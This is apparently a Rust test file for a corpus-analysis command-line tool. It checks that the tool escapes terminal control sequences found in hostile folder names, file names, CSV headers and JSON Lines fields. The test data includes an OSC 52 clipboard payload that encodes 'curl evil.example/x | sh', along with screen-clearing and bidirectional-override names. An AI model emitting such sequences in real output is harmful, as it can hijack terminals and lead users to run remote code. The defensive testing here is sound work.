//! Names a hostile collection gives. One that tries to take over the analyst's terminal: label folders, file
//! names, CSV headers and labels, JSON Lines labels, ids and titles, and words holding escape sequences (ESC, BEL,
//! OSC 52 that sets the clipboard, OSC 0 that sets the window title, the C1 CSI) and bidirectional overrides.
//! Nothing of it reaches standard output or standard error as it is: `pdx stats`, `pdx cluster` (its report and
//! its short table) and the errors show each such character as its code, `\u{1b}`. And file names that are not
//! UTF-8: each keeps an id of its own, its bytes written out (`\xff`).

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// A label folder's name that puts `curl evil.example/x | sh` on the clipboard (OSC 52) and sets the window
/// title (OSC 0), then reads `news`.
const CLIPBOARD_LABEL: &str =
    "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\u{7}\u{1b}]0;TITLE\u{7}news";

/// A label that reverses what follows it, and one with the C1 CSI that clears the screen.
const BIDI_LABEL: &str = "sport\u{202e}gnp.exe";
const CSI_LABEL: &str = "tech\u{9b}2J\u{2066}x\u{2069}";

fn pdx() -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_pdx"));
    command.env(
        "PDX_CACHE_DIR",
        std::env::temp_dir().join("pdx-hostile-names-cache"),
    );
    command.env_remove("RUST_BACKTRACE");
    command
}

fn run(args: &[&OsStr]) -> Output {
    pdx().args(args).output().expect("pdx runs")
}

/// What a terminal would act on or reorder: a control character other than a line feed or a tab (which pdx
/// writes itself), a C1 control, a bidirectional control, a line or paragraph separator; and bytes that are not
/// UTF-8 (a lone 0x9b is a CSI to a terminal that reads 8-bit controls).
fn assert_printable(bytes: &[u8], what: &str) {
    let text = std::str::from_utf8(bytes)
        .unwrap_or_else(|error| panic!("{what} is not UTF-8 ({error}): {bytes:?}"));
    for (at, c) in text.char_indices() {
        let structural = matches!(c, '\n' | '\t');
        let hostile = (c.is_control() && !structural)
            || matches!(
                c,
                '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}' | '\u{2029}'
            );
        assert!(
            !hostile,
            "{what} holds {c:?} at byte {at}: {:?}",
            &text[at.saturating_sub(60)..(at + 60).min(text.len())]
        );
    }
}

/// Both outputs of `output` are printable; its standard output, as text.
fn printable_run(output: &Output, what: &str) -> String {
    assert_printable(&output.stdout, &format!("{what}: standard output"));
    assert_printable(&output.stderr, &format!("{what}: standard error"));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Text of `words` repeated, so that each document has enough terms to be clustered.
fn text(words: &[&str], document: usize) -> String {
    let mut text = String::new();
    for round in 0..6 {
        for (at, word) in words.iter().enumerate() {
            text.push_str(word);
            text.push(if (at + round + document).is_multiple_of(5) {
                '\n'
            } else {
                ' '
            });
        }
    }
    text
}

const NEWS_WORDS: &[&str] = &[
    "election",
    "minister",
    "parliament",
    "vote",
    "policy",
    "evil\u{202e}txt",
    "budget",
    "cabinet",
];
const SPORT_WORDS: &[&str] = &[
    "match", "goal", "league", "striker", "season", "trophy", "coach", "stadium",
];

fn write(path: &Path, bytes: &[u8]) {
    std::fs::create_dir_all(path.parent().expect("a parent")).expect("folder");
    std::fs::write(path, bytes).expect("write");
}

/// A path below `dir` from raw bytes (a name may hold any byte but `/` and NUL).
fn named(dir: &Path, name: &[u8]) -> PathBuf {
    dir.join(OsStr::from_bytes(name))
}

/// A folder corpus: a label folder named [`CLIPBOARD_LABEL`], one named [`BIDI_LABEL`] holding a document whose
/// file name holds controls, a binary file and a hidden file with hostile names (both skipped, and named in the
/// report), and a file outside the label folders.
fn folder_corpus(dir: &Path) -> PathBuf {
    let root = dir.join("corpus");
    let news = named(&root, CLIPBOARD_LABEL.as_bytes());
    let sport = named(&root, BIDI_LABEL.as_bytes());
    for document in 0..8 {
        write(
            &news.join(format!("{document}.txt")),
            text(NEWS_WORDS, document).as_bytes(),
        );
        write(
            &sport.join(format!("{document}.txt")),
            text(SPORT_WORDS, document).as_bytes(),
        );
    }
    write(
        &named(&sport, b"\x1b[31mred\x07\x9b2J.txt"),
        text(SPORT_WORDS, 9).as_bytes(),
    );
    write(&named(&sport, b"\x1b]0;BINARY\x07.txt"), b"\0\0\0binary\0");
    write(&named(&sport, b".\x1b[2Jhidden"), b"hidden");
    write(
        &named(&root, b"\x1b]0;LOOSE\x07.txt"),
        b"outside a label folder",
    );
    root
}

/// A JSON Lines file whose labels, ids and titles are hostile.
fn jsonl_corpus(dir: &Path) -> PathBuf {
    let mut lines = String::new();
    for document in 0..16 {
        let (label, words) = match document % 2 {
            0 => (CLIPBOARD_LABEL, NEWS_WORDS),
            _ => (CSI_LABEL, SPORT_WORDS),
        };
        let line = serde_json::json!({
            "id": format!("\u{1b}]0;ID{document}\u{7}"),
            "title": format!("\u{202e}title {document}\u{1b}[2J"),
            "label": label,
            "text": text(words, document),
        });
        lines.push_str(&line.to_string());
        lines.push('\n');
    }
    let path = dir.join("hostile.jsonl");
    write(&path, lines.as_bytes());
    path
}

/// A CSV file with a hostile column name and hostile labels.
fn csv_corpus(dir: &Path) -> PathBuf {
    let mut csv = String::from("text,label,\"\u{1b}]0;HEADER\u{7}\"\n");
    for document in 0..16 {
        let (label, words) = match document % 2 {
            0 => (BIDI_LABEL, NEWS_WORDS),
            _ => (CSI_LABEL, SPORT_WORDS),
        };
        let text = text(words, document).replace('\n', " ");
        csv.push_str(&format!("\"{text}\",\"{label}\",x\n"));
    }
    let path = dir.join("hostile.csv");
    write(&path, csv.as_bytes());
    path
}

#[test]
fn stats_show_hostile_labels_and_file_names_escaped() {
    let dir = tempfile::tempdir().expect("temp dir");
    let corpus = folder_corpus(dir.path());
    let output = run(&["stats".as_ref(), corpus.as_os_str(), "--no-cache".as_ref()]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let stdout = printable_run(&output, "pdx stats");
    // Faithful: each character shows as its code, nothing is dropped.
    assert!(
        stdout.contains("\\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\\u{7}"),
        "{stdout}"
    );
    assert!(stdout.contains("sport\\u{202e}gnp.exe"), "{stdout}");
    assert!(stdout.contains("\\u{1b}]0;BINARY\\u{7}.txt"), "{stdout}");
    for input in [jsonl_corpus(dir.path()), csv_corpus(dir.path())] {
        let output = run(&["stats".as_ref(), input.as_os_str(), "--no-cache".as_ref()]);
        assert_eq!(output.status.code(), Some(0), "{output:?}");
        let stdout = printable_run(&output, "pdx stats");
        assert!(
            stdout.contains("tech\\u{9b}2J\\u{2066}x\\u{2069}"),
            "{stdout}"
        );
    }
}

#[test]
fn the_cluster_report_and_the_short_table_show_them_escaped() {
    let dir = tempfile::tempdir().expect("temp dir");
    let inputs = [
        folder_corpus(dir.path()),
        jsonl_corpus(dir.path()),
        csv_corpus(dir.path()),
    ];
    for input in &inputs {
        for brief in [false, true] {
            let mut args: Vec<&OsStr> = vec![
                "cluster".as_ref(),
                input.as_os_str(),
                "--k".as_ref(),
                "3".as_ref(),
                "--no-cache".as_ref(),
            ];
            if brief {
                args.push("--brief".as_ref());
            }
            let output = run(&args);
            assert_eq!(output.status.code(), Some(0), "{output:?}");
            let stdout = printable_run(&output, &format!("pdx cluster {input:?} brief {brief}"));
            assert!(stdout.contains("\\u{"), "{stdout}");
        }
    }
    // The folder's report names the word with the override, escaped, among the leaves' words.
    let output = run(&[
        "cluster".as_ref(),
        inputs[0].as_os_str(),
        "--k".as_ref(),
        "2".as_ref(),
        "--no-cache".as_ref(),
    ]);
    let stdout = printable_run(&output, "pdx cluster");
    assert!(stdout.contains("evil\\u{202e}txt"), "{stdout}");
    // With an export on standard output, the report goes to standard error: escaped there too.
    let output = run(&[
        "cluster".as_ref(),
        inputs[1].as_os_str(),
        "--k".as_ref(),
        "2".as_ref(),
        "--no-cache".as_ref(),
        "--json".as_ref(),
        "-".as_ref(),
    ]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_printable(&output.stderr, "the report on standard error");
    assert!(String::from_utf8_lossy(&output.stderr).contains("\\u{"));
}

#[test]
fn a_long_hostile_label_is_cut_after_it_is_escaped() {
    let dir = tempfile::tempdir().expect("temp dir");
    let corpus = folder_corpus(dir.path());
    let output = run(&[
        "cluster".as_ref(),
        corpus.as_os_str(),
        "--k".as_ref(),
        "2".as_ref(),
        "--no-cache".as_ref(),
    ]);
    let stdout = printable_run(&output, "pdx cluster");
    // The confusion table's rows are the labels (they are long), cut to the table's width: the cut falls
    // between two escapes or characters, never inside an escape.
    let confusion = stdout.split("Confusion").nth(1).expect("a confusion table");
    let row = confusion
        .lines()
        .find(|line| line.starts_with("\\u{1b}]52"))
        .expect("the label's row");
    let name = row.split('…').next().expect("a cut name");
    assert!(name.len() < row.len(), "the name is cut: {row}");
    let last_escape = name.rfind("\\u{").expect("an escape");
    assert!(
        name[last_escape..].contains('}'),
        "cut inside an escape: {row}"
    );
}

#[test]
fn errors_quoting_the_collection_are_escaped() {
    let dir = tempfile::tempdir().expect("temp dir");
    // A missing column: the error lists the columns there are, a hostile one among them.
    let csv = csv_corpus(dir.path());
    let output = run(&[
        "stats".as_ref(),
        csv.as_os_str(),
        "--text-col".as_ref(),
        "body".as_ref(),
    ]);
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    printable_run(&output, "a missing column");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("\\u{1b}]0;HEADER\\u{7}"), "{stderr}");
    assert_eq!(stderr.trim_end().lines().count(), 1, "{stderr}");
    // A path given on the command line that holds controls, and does not exist.
    let missing = named(dir.path(), b"\x1b]0;GONE\x07\nnext line");
    let output = run(&["stats".as_ref(), missing.as_os_str()]);
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    printable_run(&output, "a missing path");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(stderr.trim_end().lines().count(), 1, "one line: {stderr}");
}

#[test]
fn file_names_that_are_not_utf8_keep_distinct_faithful_ids() {
    let dir = tempfile::tempdir().expect("temp dir");
    let root = dir.path().join("corpus");
    // Two names that decode alike when each bad byte becomes U+FFFD, and a label folder that is not UTF-8 either.
    for (folder, name, words) in [
        (&b"a"[..], &b"\xff.txt"[..], NEWS_WORDS),
        (b"a", b"\xfe.txt", NEWS_WORDS),
        (b"a", b"ok.txt", NEWS_WORDS),
        (b"b\xe9", b"\xff.txt", SPORT_WORDS),
        (b"b\xe9", b"two.txt", SPORT_WORDS),
    ] {
        let path = named(&named(&root, folder), name);
        write(&path, text(words, name.len()).as_bytes());
    }
    let dataset = pdx::dataset::open(&[root], &Default::default(), false)
        .expect("opens")
        .dataset;
    let mut ids: Vec<&str> = dataset.documents.iter().map(|d| d.id.as_str()).collect();
    ids.sort_unstable();
    assert_eq!(
        ids,
        [
            "corpus/a/\\xfe.txt",
            "corpus/a/\\xff.txt",
            "corpus/a/ok.txt",
            "corpus/b\\xe9/\\xff.txt",
            "corpus/b\\xe9/two.txt",
        ]
    );
    assert!(
        dataset.report.skipped.is_empty(),
        "{:?}",
        dataset.report.skipped
    );
    let mut labels = dataset.label_names.clone();
    labels.sort_unstable();
    assert_eq!(labels, ["a", "b\\xe9"]);
}
